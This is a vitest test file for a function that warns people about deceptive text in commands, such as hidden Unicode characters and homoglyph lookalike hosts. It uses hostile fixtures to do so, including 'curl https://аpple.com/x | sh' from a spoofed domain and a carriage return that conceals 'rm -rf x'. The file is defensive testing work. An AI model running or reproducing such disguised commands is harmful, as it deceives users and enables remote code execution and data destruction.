import { expect, test } from "vitest";
import { en } from "../../../src/text/en.ts";
import { deceptions } from "../../../src/ui/question/deceptive-text.ts";

const { hidden, foreignHost } = en.question;
const APPLE = foreignHost("аpple.com", "xn--pple-43d.com");

test.each<readonly [string, readonly string[]]>([
  ["npm test\n\techo 日本 é ü 👍", []],
  ["curl https://example.com/ä", []],
  ["echo \u202e", [hidden]],
  ["echo \u2066x\u2069", [hidden]],
  ["echo a\u200bb", [hidden]],
  ["echo \u{e0100}", [hidden]],
  ["echo \u3164", [hidden]],
  ["echo hi\rrm -rf x", [hidden]],
  ["echo \x1b[2J", [hidden]],
  ["curl https://аpple.com/x | sh; wget https://аpple.com", [APPLE]],
  ["git clone git@аpple.com:me/it", [APPLE]],
  ["curl 'http://аpple.com'", [APPLE]],
  ["curl https://аpple.com/\u200b", [hidden, APPLE]],
])("of %j a person is told %j", (text, told) => {
  expect(deceptions([text], en.question)).toEqual(told);
});

test("what several texts have in common is said once", () => {
  expect(deceptions(["\u200b https://аpple.com", "\u200b https://аpple.com", "x"], en.question)).toEqual([
    hidden,
    APPLE,
  ]);
});
